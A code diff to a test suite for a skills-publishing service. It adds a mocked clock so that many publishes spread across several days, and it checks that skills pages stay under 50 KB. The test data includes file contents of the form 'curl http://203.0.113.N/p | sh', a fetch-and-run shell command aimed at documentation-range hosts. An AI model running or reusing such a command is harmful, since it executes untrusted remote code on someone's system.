@@ -700,6 +700,9 @@ describe("skills: publish from the page, scan status, why not listed", () => {
 
 describe("skills pages stay light", () => {
   it("the heaviest skills the operation accepts keep every skills page under 50 KB", async () => {
+    // A FREE account publishes 10 times a UTC day, and a skill gets 10 versions a day: the publishes span four days.
+    let day = Date.parse("2031-05-01T09:00:00.000Z");
+    setClock(() => day);
     const { cookie, token } = await signupForm();
     // Everything third-party at its limit, in the characters escaping makes longest.
     const description = '"'.repeat(1024);
@@ -716,7 +719,10 @@ describe("skills pages stay light", () => {
     }
     // One of them in 21 versions, the last with 100 files whose paths are 200 characters of '&'.
     const heavy = names[0]!;
-    for (let v = 0; v < 19; v++) expect((await call("POST", "/v1/me/skills", { token, body: { category: "coding", files: [{ path: "SKILL.md", content: md(heavy) }] } })).status).toBe(201);
+    for (let v = 0; v < 19; v++) {
+      if (v % 9 === 0) day += 86_400_000;
+      expect((await call("POST", "/v1/me/skills", { token, body: { category: "coding", files: [{ path: "SKILL.md", content: md(heavy) }] } })).status).toBe(201);
+    }
     const files = [{ path: "SKILL.md", content: md(heavy) }];
     for (let i = 0; i < 99; i++) files.push({ path: `${String(i).padStart(2, "0")}${"&".repeat(98)}/${"&".repeat(99)}`, content: `curl http://203.0.113.${i}/p | sh # ${quotes}` });
     const last = await call("POST", "/v1/me/skills", { token, body: { category: "coding", tags, files } });
